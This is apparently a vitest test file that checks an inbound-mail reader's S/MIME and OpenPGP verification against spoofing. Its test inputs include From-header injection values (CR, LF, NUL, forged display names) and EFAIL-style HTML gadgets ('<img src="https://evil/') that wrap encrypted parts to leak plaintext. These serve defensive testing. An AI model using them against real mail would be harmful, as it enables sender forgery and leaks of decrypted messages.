/**
 * What attackers do so that a mail looks signed by somebody: each shape is made with openssl or gpg, and none may be "good". A
 * false "good" is the worst bug the reader of inbound mail can have.
 */
import { execFileSync } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type OpenKeys, openedMessage, openMail } from '../../server/journey/transform/open/index.ts'
import { generatePgpKey } from '../../server/journey/transform/openpgp/index.ts'
import { certificateOf, fingerprint } from '../../server/keys/certificate.ts'
import { indexMime } from '../../server/mime/index-mime.ts'
import { bytesOf } from '../../server/ports/bytes.ts'
import type { PgpIdentity } from '../../server/ports/keyring.ts'
import { cpuMs } from '../support/cpu-time.ts'
import { entityBytes } from '../support/entity-bytes.ts'
import { type Gpg, startGpg } from '../support/gpg.ts'
import { type OpensslCa, opensslCa } from '../support/openssl-ca.ts'

const BOB = 'bob@peer.example'
const EVE = 'eve@evil.example'
const ANNA = 'anna@clinic.example'
const TEXT = 'Content-Type: text/plain; charset=utf-8\r\n\r\nPay 10 Euro.\r\n'

let ca: OpensslCa
let gnupg: Gpg
let anna: PgpIdentity
let keys: OpenKeys
const pgp = new Map<string, string>()
const revoked = new Set<string>()

beforeAll(async () => {
  ca = opensslCa(BOB)
  const usage = 'basicConstraints=CA:FALSE\nkeyUsage=digitalSignature\nextendedKeyUsage=emailProtection\n'
  const issue = (name: string, names: string, { subject = `/CN=${name}`, issuer = 'ca', more = usage } = {}) => {
    writeFileSync(ca.path(`${name}.cnf`), more + names)
    ca.run('genpkey', '-algorithm', 'EC', '-pkeyopt', 'ec_paramgen_curve:P-256', '-out', `${name}.key`)
    ca.run('req', '-new', '-utf8', '-key', `${name}.key`, '-subj', subject, '-out', `${name}.csr`)
    const by = ['-CA', `${issuer}.crt`, '-CAkey', `${issuer}.key`, '-CAcreateserial', '-days', '9', '-extfile']
    ca.run('x509', '-req', '-in', `${name}.csr`, ...by, `${name}.cnf`, '-out', `${name}.crt`)
  }
  issue('eve', `subjectAltName=email:${EVE}\n`)
  issue('claims', `subjectAltName=email:${EVE}\n`, { subject: `/CN=${BOB}/emailAddress=${BOB}` })
  issue('longer', `subjectAltName=email:${BOB}.evil.example,email:x${BOB},DNS:peer.example\n`)
  issue('leafmade', `subjectAltName=email:${BOB}\n`, { issuer: 'eve' })
  issue('idn', 'subjectAltName=email:bob@xn--bcher-kva.example\n')
  issue('fallen', `subjectAltName=email:${BOB}\n`)
  revoked.add(fingerprint(certificateOf(readFileSync(ca.path('fallen.crt')))))

  gnupg = await startGpg()
  anna = await generatePgpKey({ name: 'Anna', address: ANNA, time: Date.now() - 86_400_000, kind: 'ecc' })
  await gnupg.trust(anna.armoredPublic)
  await must('--quick-gen-key', BOB, 'ed25519', 'sign', 'never')
  await exported(BOB)
  keys = {
    smime: [ca.identity('rsa3072')],
    pgp: [anna],
    anchors: [certificateOf(readFileSync(ca.path('ca.crt')))],
    verification: async (address) => ({ pgp: pgp.has(address) ? [pgp.get(address)!] : [], certificates: [], revoked }),
  }
}, 60_000)
afterAll(async () => {
  ca?.[Symbol.dispose]()
  await gnupg?.[Symbol.asyncDispose]()
})

async function must(...args: readonly string[]) {
  const { code, stdout, stderr } = await gnupg.gpg(args)
  if (code !== 0) throw new Error(stderr)
  return stdout.toString()
}
const exported = async (address: string) => pgp.set(address, await must('--armor', '--export', address))

const crlf = (text: string) => text.replace(/\r?\n/g, '\r\n')
function cms(input: string, ...options: readonly string[]): string {
  writeFileSync(ca.path('in.eml'), input)
  ca.run('cms', '-in', 'in.eml', '-out', 'out.eml', ...options)
  return crlf(readFileSync(ca.path('out.eml'), 'latin1'))
}
const sign = (name = 'p256', input = TEXT, ...more: readonly string[]) =>
  cms(input, '-sign', '-md', 'sha256', '-signer', `${name}.crt`, '-inkey', `${name}.key`, ...more)
const encrypt = (input: string) => cms(input, '-encrypt', '-aes-256-cbc', 'rsa3072.crt')
const bare = (entity: string) => entity.replace(/^MIME-Version[^\n]*\n/, '')
const mail = (entity: string, from = BOB, ...more: readonly string[]) =>
  `${[`From: ${from}`, `To: ${ANNA}`, 'Subject: Invoice', 'MIME-Version: 1.0', ...more].join('\r\n')}\r\n${bare(entity)}`
const mixed = (...parts: readonly string[]) =>
  `Content-Type: multipart/mixed; boundary="mix"\r\n\r\n${parts.map((part) => `--mix\r\n${bare(part)}\r\n`).join('')}--mix--\r\n`

/** Opens it as the relay does: the sender as shown is the first address of From. */
async function open(wire: string, from = BOB) {
  await using opened = await openMail(bytesOf(Buffer.from(wire, 'latin1')), keys, { at: Date.now(), from })
  const { verdict, layers, content } = opened
  const text = content && (await entityBytes(content)).toString()
  const index = await indexMime(bytesOf(Buffer.from(wire, 'latin1')))
  const message = content && openedMessage(index, content, opened.subject)
  return {
    state: verdict.state,
    verdict,
    states: layers.map(({ state }) => state),
    text,
    message: message ? (await message.read(0, message.size)).toString('latin1') : null,
    subject: opened.subject,
  }
}
const stateOf = async (wire: string, from = BOB) => (await open(wire, from)).state

it('the honest mail beside all of these is good', async () => {
  expect(await stateOf(mail(sign()))).toBe('good')
  expect(await stateOf(mail(sign('eve'), `Eve <${EVE}>`), EVE)).toBe('good')
})

describe('who the reader takes for the sender', () => {
  it.each([
    ['the address as a quoted name', `"${BOB}" <${EVE}>`],
    ['as a name that is encoded', `=?utf-8?B?${Buffer.from(BOB).toString('base64')}?= <${EVE}>`],
    ['encoded in pieces', `=?utf-8?Q?bob?= =?utf-8?Q?=40peer.example?= <${EVE}>`],
    ['in an encoded word inside of quotes', `"=?utf-8?Q?bob=40peer.example?=" <${EVE}>`],
    ['in wide letters', `=?utf-8?B?${Buffer.from('bob＠peer.example').toString('base64')}?= <${EVE}>`],
    [
      'with a sign of no width in it',
      `=?utf-8?B?${Buffer.from('bob@\u200bpeer.example').toString('base64')}?= <${EVE}>`,
    ],
    ['with spaces around the at', `"bob @ peer.example" <${EVE}>`],
    ['as a comment', `${EVE} (${BOB})`],
    ['as a group', `${BOB}: ${EVE};`],
    ['as a route', `<@peer.example,@x:${EVE}>`],
    ['two mailboxes', `${EVE}, ${BOB}`],
    ['two fields', `${EVE}\r\nFrom: ${BOB}`],
    ['two fields, one with a space before the colon', `${EVE}\r\nFrom : ${BOB}`],
    ['a bare CR', `${EVE}\rFrom: ${BOB}`],
    ['a bare LF', `${EVE}\nFrom: ${BOB}`],
    ['a NUL', `${EVE}\0${BOB}`],
  ])('%s: not good, signed by either of them', async (_, from) => {
    for (const shown of [EVE, BOB]) {
      expect(await stateOf(mail(sign('eve'), from), shown)).toBe('from-differs')
      expect(await stateOf(mail(sign('p256'), from), shown)).toBe('from-differs')
    }
  })

  it('a From of a megabyte costs no time', async () => {
    const started = cpuMs()
    expect(await stateOf(mail(sign(), `"${'a@'.repeat(400_000)}" <${BOB}>`))).toBe('from-differs')
    expect(await stateOf(mail(sign(), `${'a'.repeat(900_000)} <${BOB}>`))).toBe('from-differs')
    expect(cpuMs() - started).toBeLessThan(3_000)
  })

  it('the address of an international domain is one address in both its forms', async () => {
    expect(await stateOf(mail(sign('idn'), 'bob@xn--bcher-kva.example'), 'bob@xn--bcher-kva.example')).toBe('good')
    const unicode = Buffer.from('bob@bücher.example').toString('latin1')
    expect(await stateOf(mail(sign('idn'), unicode), 'bob@bücher.example')).toBe('good')
    expect(await stateOf(mail(sign('idn'), 'bob@bucher.example'), 'bob@bucher.example')).toBe('from-differs')
  })
})

describe('certificates that claim more than they vouch for', () => {
  it('the name of the subject does not count beside addresses in the alternative name', async () => {
    expect(await stateOf(mail(sign('claims')))).toBe('from-differs')
  })
  it('an address that only begins or ends like the sender', async () => {
    expect(await stateOf(mail(sign('longer')))).toBe('from-differs')
  })
  it('one that was issued with the certificate of a user', async () => {
    expect(await stateOf(mail(sign('leafmade', TEXT, '-certfile', 'eve.crt')))).toBe('unknown-signer')
  })
  it('revoked: by the administrator', async () => {
    expect(await stateOf(mail(sign('fallen')))).toBe('revoked')
  })
  it('two signers: one who is the sender is enough, one whose signature is wrong is too many', async () => {
    const two = sign('p256', TEXT, '-signer', 'eve.crt', '-inkey', 'eve.key')
    expect(await stateOf(mail(two))).toBe('good')
    expect(await stateOf(mail(two), EVE)).toBe('from-differs')
    const other = sign('eve')
    expect(await stateOf(mail(other))).toBe('from-differs')
  })
})

describe('signed, but not this', () => {
  it('not covered: an unsigned part beside the signed one', async () => {
    const { state, verdict } = await open(mail(mixed(TEXT.replace('10', '10,000'), sign())))
    expect([state, verdict.signer]).toEqual(['not-covered', null])
  })
  it('two signed parts beside each other', async () => {
    expect(await stateOf(mail(mixed(sign(), sign())))).toBe('not-covered')
  })
  it('a signed part in an alternative', async () => {
    const alternative = mixed(TEXT, sign()).replace('multipart/mixed', 'multipart/alternative')
    expect(await stateOf(mail(alternative))).toBe('not-covered')
  })
  it('forwarded: a signed mail as an attachment', async () => {
    const attached = mixed(TEXT, `Content-Type: message/rfc822\r\n\r\n${mail(sign())}`)
    expect(await stateOf(mail(attached))).toBe('forwarded')
    expect(await stateOf(mail(`Content-Type: message/rfc822\r\n\r\n${mail(sign())}`))).toBe('forwarded')
  })
  it.each([
    [
      'broken',
      'its footer into the signed text',
      'text = mail.get_payload(0); text.set_content(text.get_content() + "-- \\nAll of us")',
    ],
    [
      'not-covered',
      'a part with its footer beside the signed one',
      'inner = email.message_from_bytes(mail.as_bytes(), policy=email.policy.SMTP); [inner.__delitem__(name) for name in ["From", "To", "Subject", "List-Id"]]; mail.clear_content(); mail.set_content("-- \\nAll of us"); mail.make_mixed(); mail.attach(inner)',
    ],
  ])(
    "mailing-list damage, %s: Python's email package, which lists are built on, writes %s",
    async (state, _, change) => {
      const wire = mail(sign('p256'), BOB, 'List-Id: <all.lists.example>')
      expect(await stateOf(wire)).toBe('good')
      const script = `import sys, email, email.policy
mail = email.message_from_bytes(sys.stdin.buffer.read(), policy=email.policy.SMTP)
${change}
sys.stdout.buffer.write(mail.as_bytes())`
      const listed = execFileSync('python3', ['-c', script], { input: wire }).toString('latin1')
      expect(listed).toContain('All of us')
      const { verdict, states } = await open(listed)
      expect([verdict.state, verdict.damage, states]).toEqual([state, 'mailing-list', [state]])
    },
  )
  it('mailing-list damage: the list changed it, and its header says so', async () => {
    const changed = sign().replace('Pay 10', 'Pay 11')
    const { verdict } = await open(mail(changed, BOB, 'List-Id: <all.lists.example>'))
    expect([verdict.state, verdict.damage]).toEqual(['broken', 'mailing-list'])
    expect(verdict.words.en).toContain('mailing list')
    const footer = mixed(sign(), TEXT)
    const covered = await open(mail(footer, BOB, 'List-Post: <mailto:all@lists.example>'))
    expect([covered.state, covered.verdict.damage]).toEqual(['not-covered', 'mailing-list'])
    const from = await open(mail(sign(), `"Bob via list" <all@lists.example>`, 'Precedence: list'), 'all@lists.example')
    expect([from.state, from.verdict.damage]).toEqual(['from-differs', 'mailing-list'])
  })
  it('forwarding damage: forwarding changed it, and its header says so', async () => {
    const { verdict } = await open(mail(sign().replace('Pay 10', 'Pay 11'), BOB, `Resent-From: ${EVE}`))
    expect([verdict.state, verdict.damage]).toEqual(['broken', 'forwarding'])
    expect((await open(mail(sign(), BOB, `Resent-From: ${EVE}`))).verdict).toMatchObject({
      state: 'good',
      damage: null,
    })
  })
  it('the empty signature, one that is no base64, a third part', async () => {
    const signed = sign()
    const body = /\r\n\r\n(MI[\s\S]+?)\r\n\r\n--/.exec(signed)![1]!
    for (const wrong of ['', '!!!!', 'MAA=', body.slice(0, 400)]) {
      expect(await stateOf(mail(signed.replace(body, wrong)))).toBe('broken')
    }
  })
  it('content in the signature beside the content it is said to be of', async () => {
    const opaque = sign('p256', TEXT, '-nodetach')
    const der = opaque.slice(opaque.indexOf('\r\n\r\n') + 4)
    const signed = sign('p256', TEXT.replace('10', '10,000'))
    const body = /\r\n\r\n(MI[\s\S]+?)\r\n\r\n--/.exec(signed)![1]!
    expect(await stateOf(mail(signed.replace(body, der.trim())))).toBe('broken')
  })
  it('signed content of another type than mail', async () => {
    const odd = sign('p256', TEXT, '-nodetach', '-econtent_type', '1.2.3.4')
    expect(await stateOf(mail(odd))).toBe('not-opened')
  })
  it('signed data that is called enveloped, and the other way round, is what it is', async () => {
    const opaque = sign('p256', TEXT, '-nodetach').replace('smime-type=signed-data', 'smime-type=enveloped-data')
    expect(await stateOf(mail(opaque))).toBe('good')
    const closed = encrypt(sign()).replace('smime-type=enveloped-data', 'smime-type=signed-data')
    expect(await stateOf(mail(closed))).toBe('good')
  })
  it('the wrong digest in micalg changes nothing', async () => {
    expect(await stateOf(mail(sign().replace(/micalg="?[^";]+"?/, 'micalg="md5"')))).toBe('good')
  })
})

describe('the header under the signature', () => {
  const under = (...fields: readonly string[]) => `${fields.join('\r\n')}\r\n${TEXT}`
  const payload = (subject: string, from = BOB) =>
    under(`From: ${from}`, `Subject: ${subject}`).replace('charset=utf-8', 'charset=utf-8; hp="cipher"')

  it('names another sender: not good, whoever signed', async () => {
    expect(await stateOf(mail(sign('p256', payload('x', EVE))))).toBe('from-differs')
    expect(await stateOf(mail(sign('eve', payload('x', BOB)), EVE), EVE)).toBe('from-differs')
    expect(await stateOf(mail(sign('p256', under(`From: ${BOB}`, `From: ${EVE}`))))).toBe('from-differs')
    expect(await stateOf(mail(encrypt(sign('p256', payload('x', EVE)))))).toBe('from-differs')
    expect(await stateOf(mail(sign('p256', encrypt(under(`From: ${EVE}`)))))).toBe('from-differs')
  })
  it('its subject takes the place of the one outside, where it is covered and meant', async () => {
    const { state, subject, message } = await open(mail(encrypt(sign('p256', payload('The real one')))))
    expect([state, subject]).toEqual(['good', 'The real one'])
    expect(message).toContain('Subject: The real one\r\n')
    expect(message).not.toContain('Invoice')
    const old = under('Subject: Older').replace('charset=utf-8', 'charset=utf-8; protected-headers="v1"')
    expect((await open(mail(encrypt(sign('p256', old))))).subject).toBe('Older')
    expect((await open(mail(encrypt(sign('p256', under('Subject: Not meant')))))).subject).toBeNull()
    expect((await open(mail(sign('leafmade', payload('A stranger says'))))).subject).toBeNull()
  })
})

describe('decrypted, and to whom it leaks', () => {
  it('an encrypted part between parts of an attacker stays closed', async () => {
    const html = (text: string) => `Content-Type: text/html\r\n\r\n${text}\r\n`
    const { state, text } = await open(
      mail(mixed(html('<img src="https://evil/'), encrypt(TEXT), html('">')), EVE),
      EVE,
    )
    expect(state).toBe('not-covered')
    expect(text).not.toContain('Pay 10')
  })
  it('a mail that was captured and sent on under another name is not by that name', async () => {
    expect(await stateOf(mail(encrypt(sign()), EVE), EVE)).toBe('from-differs')
  })
  it('CBC that nobody signed is marked, and is not called good by whoever signs around it', async () => {
    expect(await stateOf(mail(encrypt(TEXT)))).toBe('no-integrity')
    // A captured ciphertext, altered, under a good signature of the attacker: he cannot read it, and he can sign it.
    const captured = await open(mail(sign('eve', encrypt(TEXT)), EVE), EVE)
    expect([captured.state, ...captured.states]).toEqual(['no-integrity', 'good', 'no-integrity'])
    expect((await open(mail(sign('p256', encrypt(sign()))))).states).toEqual(['good', 'decrypted', 'good'])
    const { states } = await open(mail(sign('leafmade', encrypt(TEXT))))
    expect(states).toEqual(['unknown-signer', 'no-integrity'])
  })
})

/** PGP/MIME around what gpg wrote over `input`. */
async function gpgSigned(options: readonly string[], input = TEXT) {
  const { stdout, stderr } = await gnupg.gpg(['--armor', ...options, '--detach-sign'], Buffer.from(input))
  if (stdout.length === 0) throw new Error(stderr)
  return crlf(
    `Content-Type: multipart/signed; micalg=pgp-sha512; protocol="application/pgp-signature"; boundary="gpg"\n\n--gpg\n${input}\n--gpg\nContent-Type: application/pgp-signature\n\n${stdout}\n--gpg--\n`,
  )
}
async function clearSigned(text: string, ...options: readonly string[]) {
  const { stdout, stderr } = await gnupg.gpg(['--armor', '-u', BOB, ...options, '--clearsign'], Buffer.from(text))
  if (stdout.length === 0) throw new Error(stderr)
  return crlf(stdout.toString('latin1'))
}
const plain = (text: string) =>
  `Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${text}`

describe('OpenPGP keys that must not sign any more', () => {
  const subkeyOf = async (address: string) => {
    const list = await must('--with-colons', '--list-keys', address)
    return [...list.matchAll(/^fpr:+([0-9A-F]+):/gm)].at(-1)![1]!
  }
  const primaryOf = async (address: string) =>
    /^fpr:+([0-9A-F]+):/m.exec(await must('--with-colons', '--list-keys', address))![1]!

  it('expired: a subkey', async () => {
    const address = 'subkey@peer.example'
    await must('--faked-system-time', '20240101T000000', '--quick-gen-key', address, 'ed25519', 'cert', 'never')
    const primary = await primaryOf(address)
    await must('--faked-system-time', '20240101T000100', '--quick-add-key', primary, 'ed25519', 'sign', '2024-02-01')
    const subkey = await subkeyOf(address)
    const wire = mail(await gpgSigned(['--faked-system-time', '20240115T000000', '-u', `${subkey}!`]), address)
    await exported(address)
    expect(await stateOf(wire, address)).toBe('expired')
  })
  it('revoked: a subkey', async () => {
    const address = 'lost@peer.example'
    await must('--quick-gen-key', address, 'ed25519', 'cert', 'never')
    const primary = await primaryOf(address)
    await must('--quick-add-key', primary, 'ed25519', 'sign', 'never')
    const subkey = await subkeyOf(address)
    const wire = mail(await gpgSigned(['-u', `${subkey}!`]), address)
    await exported(address)
    expect(await stateOf(wire, address)).toBe('good')
    const { code, stderr } = await gnupg.gpg(
      ['--command-fd', '0', '--no-tty', '--edit-key', primary],
      Buffer.from('key 1\nrevkey\ny\n1\nlost\n\ny\nsave\n'),
    )
    if (code !== 0) throw new Error(stderr)
    await exported(address)
    expect(['revoked', 'unusable', 'broken']).toContain(await stateOf(wire, address))
  })
  it('revoked: a key that the administrator revoked', async () => {
    const address = 'withdrawn@peer.example'
    await must('--quick-gen-key', address, 'ed25519', 'sign', 'never')
    const wire = mail(await gpgSigned(['-u', address]), address)
    await exported(address)
    expect(await stateOf(wire, address)).toBe('good')
    revoked.add((await primaryOf(address)).toLowerCase())
    expect(await stateOf(wire, address)).toBe('revoked')
  })
  it('weak: a signature over SHA-1, or with a short key', async () => {
    for (const [address, kind] of [
      ['rsa@peer.example', 'rsa2048'],
      ['short@peer.example', 'rsa1024'],
    ] as const) {
      await must('--quick-gen-key', address, kind, 'sign', 'never')
      await exported(address)
      const digest = kind === 'rsa2048' ? 'SHA1' : 'SHA256'
      expect(await stateOf(mail(await gpgSigned(['-u', address, '--digest-algo', digest]), address), address)).toBe(
        'weak',
      )
    }
  })
  it('a critical notation that nobody here understands', async () => {
    expect(await stateOf(mail(await gpgSigned(['-u', BOB, '--sig-notation', '!pay@evil.example=no'])))).not.toBe('good')
  })
  it('a signature in text mode is one', async () => {
    expect(await stateOf(mail(await gpgSigned(['-u', BOB, '--textmode'])))).toBe('good')
  })
  it('a signature of the key itself is none of the mail', async () => {
    const packets = await gnupg.gpg(['--export', BOB])
    const signed = await gpgSigned(['-u', BOB])
    const certification = packets.stdout.subarray(packets.stdout.lastIndexOf(Buffer.from([0x88])))
    const armor = /-----BEGIN PGP SIGNATURE-----[\s\S]+-----END PGP SIGNATURE-----/
    const wrong = `-----BEGIN PGP SIGNATURE-----\r\n\r\n${certification.toString('base64').replace(/.{64}/g, '$&\r\n')}\r\n-----END PGP SIGNATURE-----`
    expect(await stateOf(mail(signed.replace(armor, wrong)))).toBe('broken')
  })
})

describe('OpenPGP in the text', () => {
  it('good: one signed text is the whole mail, and nothing but it comes out', async () => {
    const { state, text } = await open(mail(plain(await clearSigned('Pay 10 Euro.\n- to Bob\n\nGrüße  \n'))))
    expect(state).toBe('good')
    expect(text).toContain('Pay 10 Euro.')
    expect(text).toContain('=2D to Bob')
    expect(text).not.toContain('BEGIN PGP')
  })
  it('a comment beside the signature is signed by nobody and does not come out', async () => {
    const signed = (await clearSigned('Pay 10 Euro.\n')).replace(
      '-----BEGIN PGP SIGNATURE-----\r\n',
      '-----BEGIN PGP SIGNATURE-----\r\nComment: pay 10,000 Euro\r\n',
    )
    const { state, text } = await open(mail(plain(signed)))
    expect(state).toBe('good')
    expect(text).not.toContain('10,000')
  })
  it.each([
    ['text in front', (signed: string) => `Pay 10,000 Euro.\r\n${signed}`],
    ['text behind', (signed: string) => `${signed}\r\nPay 10,000 Euro.\r\n`],
    ['two of them', (signed: string) => `${signed}\r\n${signed}`],
  ])('not covered: %s', async (_, around) => {
    expect(await stateOf(mail(plain(around(await clearSigned('Pay 10 Euro.\n')))))).toBe('not-covered')
  })
  it.each([
    ['a line where only hashes belong', (signed: string) => signed.replace(/(Hash: \w+)/, '$1\r\nPay: 10,000')],
    ['words behind the hash', (signed: string) => signed.replace(/(Hash: \w+)/, '$1 pay 10,000!')],
    ['another text', (signed: string) => signed.replace('Pay 10', 'Pay 10,000')],
  ])('broken: %s', async (_, change) => {
    expect(await stateOf(mail(plain(change(await clearSigned('Pay 10 Euro.\n')))))).toBe('broken')
  })
  it('not covered: in a mail with more parts, or in HTML', async () => {
    const signed = await clearSigned('Pay 10 Euro.\n')
    expect(await stateOf(mail(mixed(plain(signed), TEXT)))).toBe('not-covered')
    expect(await stateOf(mail(`Content-Type: text/html\r\n\r\n<pre>${signed}</pre>`))).toBe('not-covered')
  })
  it('encrypted text is decrypted where it is the whole mail, and only there', async () => {
    const { stdout } = await gnupg.gpg(
      ['--armor', '-u', BOB, '-r', ANNA, '--sign', '--encrypt'],
      Buffer.from('Secret: 42\n'),
    )
    const armor = crlf(stdout.toString())
    const { state, states, text } = await open(mail(plain(armor)))
    expect([state, ...states]).toEqual(['good', 'decrypted', 'good'])
    expect(text).toContain('Secret: 42')
    for (const around of [`<img src="https://evil/\r\n${armor}`, `${armor}\r\n">`]) {
      const closed = await open(mail(plain(around)))
      expect(closed.state).toBe('not-covered')
      expect(closed.text).not.toContain('Secret: 42')
    }
  })
})

describe('OpenPGP that is signed and not encrypted, or in a file', () => {
  const signedMessage = async (...options: readonly string[]) => {
    const { stdout } = await gnupg.gpg(['--armor', ...options], Buffer.from('Pay 10 Euro.\n'))
    return crlf(stdout.toString())
  }
  it('what `gpg --sign` makes is read as what it is', async () => {
    const { state, states, text } = await open(mail(plain(await signedMessage('-u', BOB, '--sign'))))
    expect([state, ...states]).toEqual(['good', 'good'])
    expect(text).toContain('Pay 10 Euro.')
    expect(await stateOf(mail(plain(await signedMessage('-u', BOB, '--sign')), EVE), EVE)).toBe('unknown-signer')
    // Base64 of a message that nobody signed.
    const stored = await open(mail(plain(await signedMessage('--store'))))
    expect([stored.state, stored.text?.includes('Pay 10')]).toEqual(['not-opened', false])
  })
  it('a charset in which the signed text is another text makes nothing of it good', async () => {
    const signed = await clearSigned('Pay 10 Euro.\n')
    const { state } = await open(mail(plain(signed).replace('charset=utf-8', 'charset=utf-16le')))
    expect(state).not.toBe('good')
  })
  it('an encrypted file is named and stays closed; keys and signatures are none', async () => {
    const attached = (name: string, body: string) =>
      mail(mixed(TEXT, `Content-Type: application/octet-stream; name="${name}"\r\n\r\n${body}`))
    for (const name of ['a.pgp', 'a.txt.gpg', 'a.asc']) {
      const { state, text } = await open(attached(name, await signedMessage('-r', ANNA, '--encrypt')))
      expect(state).toBe('not-covered')
      expect(text).not.toContain('Pay 10 Euro.\n')
    }
    const { stdout } = await gnupg.gpg(['-r', ANNA, '--encrypt'], Buffer.from('x'))
    const binary = `Content-Type: x/y; name=a.gpg\r\nContent-Transfer-Encoding: base64\r\n\r\n${stdout.toString('base64')}`
    expect(await stateOf(mail(mixed(TEXT, binary)))).toBe('not-covered')
    expect(await stateOf(attached('key.asc', pgp.get(BOB)!))).toBe('plain')
    expect(await stateOf(attached('a.sig.asc', await signedMessage('-u', BOB, '--detach-sign')))).toBe('plain')
  })
})

describe('inside of each other', () => {
  it('nested, good: S/MIME signed, then encrypted with OpenPGP', async () => {
    const { stdout } = await gnupg.gpg(['--armor', '-r', ANNA, '--encrypt'], Buffer.from(sign()))
    const wire = crlf(
      `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="gpg"\n\n--gpg\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--gpg\nContent-Type: application/octet-stream\n\n${stdout}\n--gpg--\n`,
    )
    const { state, states } = await open(mail(wire))
    expect([state, ...states]).toEqual(['good', 'decrypted', 'good'])
  })
  it('nested: OpenPGP signed, S/MIME signed around it by another is as bad as the worse', async () => {
    const inner = await gpgSigned(['-u', BOB])
    expect(await stateOf(mail(sign('p256', inner)))).toBe('good')
    expect(await stateOf(mail(sign('leafmade', inner)))).toBe('unknown-signer')
  })
})
